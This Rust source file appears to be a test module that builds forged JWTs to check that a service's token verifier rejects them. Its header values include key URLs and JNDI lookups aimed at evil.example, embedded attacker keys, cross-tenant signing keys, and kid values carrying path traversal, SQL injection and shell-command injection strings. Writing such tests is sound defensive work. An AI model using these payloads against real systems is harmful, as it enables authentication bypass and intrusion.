use serde_json::{Value, json};

use super::{Forger, Forgery};
use crate::support::rsa::{Rsa, base64url};
use crate::support::token::{Parts, claims, header, signed};

pub(super) fn all(forger: &Forger) -> Vec<Forgery> {
    let mut all = with_more_in_the_head(forger);
    all.extend(with_another_kid(forger));
    all.extend(with_another_key(forger));
    all
}

/// Everything that a header may say but alg, typ, kid and cty.
fn extras(forger: &Forger) -> Vec<(&'static str, Value)> {
    let url = "https://evil.example/keys.json";
    let certificate = base64url(forger.stranger.public_der());
    vec![
        ("a jku", json!({ "jku": url })),
        ("a jku with our name in it", json!({ "jku": "https://api.behest.app@evil.example/" })),
        ("an x5u", json!({ "x5u": url })),
        ("an x5c", json!({ "x5c": [certificate] })),
        ("an x5t", json!({ "x5t": "AAAA" })),
        ("an x5t#S256", json!({ "x5t#S256": "AAAA" })),
        ("a jwk", json!({ "jwk": forger.stranger.jwk() })),
        ("a jwk that is null", json!({ "jwk": null })),
        ("crit", json!({ "crit": ["exp"], "exp": 1 })),
        ("an empty crit", json!({ "crit": [] })),
        ("b64 false", json!({ "b64": false, "crit": ["b64"] })),
        ("b64 false, not critical", json!({ "b64": false })),
        ("b64 true", json!({ "b64": true, "crit": ["b64"] })),
        ("zip", json!({ "zip": "DEF" })),
        ("enc", json!({ "enc": "A256GCM" })),
        ("p2c", json!({ "p2s": "AAAA", "p2c": 2_000_000_000 })),
        ("epk", json!({ "epk": { "kty": "EC" } })),
        ("a nonce", json!({ "nonce": "x" })),
        ("a url", json!({ "url": url })),
        ("claims in the header", json!({ "iss": "behest", "exp": 9_999_999_999_u64 })),
        ("a member that nobody knows", json!({ "x": 1 })),
    ]
}

fn with_more_in_the_head(forger: &Forger) -> Vec<Forgery> {
    let mut all = Vec::new();
    for (what, more) in extras(forger) {
        all.push((format!("{what} in acme's header"), forger.headed(more.clone())));
    }
    for (what, more) in extras(forger).into_iter().filter(|(_, more)| {
        ["jku", "x5u", "x5c", "jwk"].iter().any(|name| more.get(name).is_some_and(|v| !v.is_null()))
    }) {
        let mut header = header("sk_acme");
        header.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
        let token = signed(forger.stranger, &header, &forger.claims());
        all.push((format!("signed by a stranger, with {what}"), token));
        header["kid"] = Parts::of(&forger.minted).header["kid"].clone();
        let payload = Parts::of(&forger.minted).payload;
        let token = signed(forger.stranger, &header, &payload);
        all.push((format!("ours, signed by a stranger, with {what}"), token));
    }
    all
}

fn with_another_kid(forger: &Forger) -> Vec<Forgery> {
    let mut all = Vec::new();
    for kid in [
        json!(null),
        json!(1),
        json!(["sk_acme"]),
        json!({ "kid": "sk_acme" }),
        json!(""),
        json!("sk_nobody"),
        json!("SK_ACME"),
        json!("sk_acme "),
        json!(" sk_acme"),
        json!("sk_acme\u{0}"),
        json!("sk_acme\n"),
        json!("sk_\u{430}cme"),
        json!("sk%5facme"),
        json!("../sk_acme"),
        json!("./sk_acme"),
        json!("acme/sk_acme"),
        json!("acme/../acme/sk_acme"),
        json!("../../../../../../dev/null"),
        json!("/etc/hostname"),
        json!("file:///dev/null"),
        json!("https://evil.example/key"),
        json!("sk_acme' --"),
        json!("' OR '1'='1"),
        json!("x' UNION SELECT 'aw=='; --"),
        json!("sk_acme'; DROP TABLE records; --"),
        json!("sk_%"),
        json!("*"),
        json!("${jndi:ldap://evil.example/a}"),
        json!("| sleep 10"),
        json!("k".repeat(4_000)),
        json!("../".repeat(3_500)),
    ] {
        let shown: String = kid.to_string().chars().take(50).collect();
        all.push((format!("the kid {shown}"), forger.headed(json!({ "kid": kid }))));
    }
    let mut header = header("sk_acme");
    header.as_object_mut().unwrap().remove("kid");
    all.push(("no kid".to_owned(), forger.head(&header.to_string())));
    all
}

/// Good in everything but who signed it for whom.
fn with_another_key(forger: &Forger) -> Vec<Forgery> {
    let Forger { acme, globex, stranger, .. } = forger;
    let ours = Parts::of(&forger.minted);
    let our_kid = ours.header["kid"].as_str().unwrap();
    let of_acme = forger.claims();
    let by_us = |mut claims: Value| {
        claims["iss"] = json!("https://api.behest.app");
        claims
    };
    let shop_of_acme = claims("acme", "shop", "u");
    let demo_of_globex = claims("globex", "demo", "u");
    let cases: [(&str, &Rsa, &str, Value); 16] = [
        ("a stranger's key under acme's kid", stranger, "sk_acme", of_acme.clone()),
        ("a stranger's key under our kid", stranger, our_kid, ours.payload.clone()),
        ("globex's key under acme's kid", globex, "sk_acme", of_acme.clone()),
        ("globex's key and kid for acme", globex, "sk_globex", of_acme.clone()),
        ("acme's key and kid for globex", acme, "sk_acme", claims("globex", "shop", "u")),
        ("globex's key of the common name", globex, forger.common, of_acme.clone()),
        ("globex's key for acme's project", globex, "sk_globex", demo_of_globex.clone()),
        ("acme's key for globex's project", acme, "sk_acme", shop_of_acme),
        ("acme's key for a project of nobody", acme, "sk_acme", claims("acme", "none", "u")),
        (
            "acme's key for a project by its slug",
            acme,
            "sk_acme",
            claims("acme", "amber-fox-042", "u"),
        ),
        ("acme's key under our kid", acme, our_kid, of_acme.clone()),
        ("acme's key under our kid, issued by us", acme, our_kid, by_us(of_acme.clone())),
        ("acme's key and kid, issued by us", acme, "sk_acme", by_us(of_acme)),
        ("what we minted, under acme's key and kid", acme, "sk_acme", ours.payload.clone()),
        ("what we minted, under acme's key", acme, our_kid, ours.payload.clone()),
        ("globex's key and kid, issued by us", globex, "sk_globex", by_us(demo_of_globex)),
    ];
    let token = |(name, key, kid, payload): (&str, &Rsa, &str, Value)| {
        (name.to_owned(), signed(key, &header(kid), &payload))
    };
    cases.into_iter().map(token).collect()
}
